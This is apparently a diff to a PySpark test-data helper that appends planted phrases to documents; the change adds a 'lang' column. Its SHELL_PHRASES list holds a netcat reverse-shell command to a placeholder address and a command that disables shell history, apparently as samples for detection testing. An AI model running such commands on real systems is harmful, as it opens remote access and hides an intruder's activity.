@@ -232,7 +232,7 @@ def planted(spark, sf, phrases):
     pick = F.element_at(F.array(*[F.lit(p) for p in phrases]),
                         (F.col("doc_id") % len(phrases) + 1).cast("int"))
     return table(spark, sf, "documents").select(
-        "doc_id", "source", F.concat("text", F.lit("\n"), pick).alias("text"))
+        "doc_id", "lang", "source", F.concat("text", F.lit("\n"), pick).alias("text"))
 
 
 SHELL_PHRASES = ["nc -e /bin/bash 1.2.3.4", "unset HISTFILE", "nothing here",
